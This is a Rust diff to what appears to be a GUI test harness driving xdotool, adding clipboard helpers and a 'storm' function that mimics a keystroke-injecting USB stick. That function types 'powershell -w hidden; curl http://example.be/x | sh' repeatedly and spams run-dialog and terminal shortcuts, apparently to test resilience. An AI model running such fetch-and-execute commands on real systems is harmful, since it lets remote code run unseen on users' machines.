@@ -2,6 +2,7 @@
 //! keyboard and mouse, and what can be seen.
 
 use anyhow::{Context as _, ensure};
+use std::io::Write as _;
 use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
 use std::time::{Duration, Instant};
@@ -69,17 +70,56 @@ pub fn xdo(words: &[&str]) -> anyhow::Result<()> {
     told("xdotool", words).map(drop)
 }
 
-/// Waits, at most half a minute, until something holds.
+/// Waits until something holds: longer than an app may take that hangs while it starts.
 pub fn until(what: &str, mut holds: impl FnMut() -> anyhow::Result<bool>) -> anyhow::Result<()> {
     let begun = Instant::now();
     while !holds()? {
         ensure!(
-            begun.elapsed() < Duration::from_secs(60),
+            begun.elapsed() < Duration::from_secs(150),
             "it never came: {what}"
         );
         std::thread::sleep(Duration::from_millis(100));
     }
     Ok(())
+}
+
+/// What a stick that says it is a keyboard would type: a thousand keys in a second or two, and the
+/// chords with which such sticks begin.
+pub fn storm() -> anyhow::Result<()> {
+    let words = "powershell -w hidden; curl http://example.be/x | sh; ".repeat(12);
+    xdo(&["type", "--delay", "1", &words])?;
+    for chord in [
+        "super+r",
+        "ctrl+alt+t",
+        "alt+F2",
+        "ctrl+shift+Escape",
+        "super+e",
+        "F1",
+    ] {
+        xdo(&["key", "--repeat", "25", "--delay", "1", chord])?;
+    }
+    Ok(())
+}
+
+/// Copies something, as somebody before did.
+pub fn copy(words: &str) -> anyhow::Result<()> {
+    for selection in ["clipboard", "primary"] {
+        let mut child = Command::new("xclip")
+            .args(["-in", "-selection", selection])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::null())
+            .spawn()
+            .context("xclip is installed")?;
+        let input = child.stdin.as_mut().context("the input is piped")?;
+        input.write_all(words.as_bytes())?;
+        child.wait()?;
+    }
+    Ok(())
+}
+
+/// What a paste would bring.
+pub fn pasted() -> anyhow::Result<String> {
+    told("xclip", &["-out", "-selection", "clipboard"])
 }
 
 /// The windows that are in sight, menus and dialogs among them, and the one that has the keyboard.
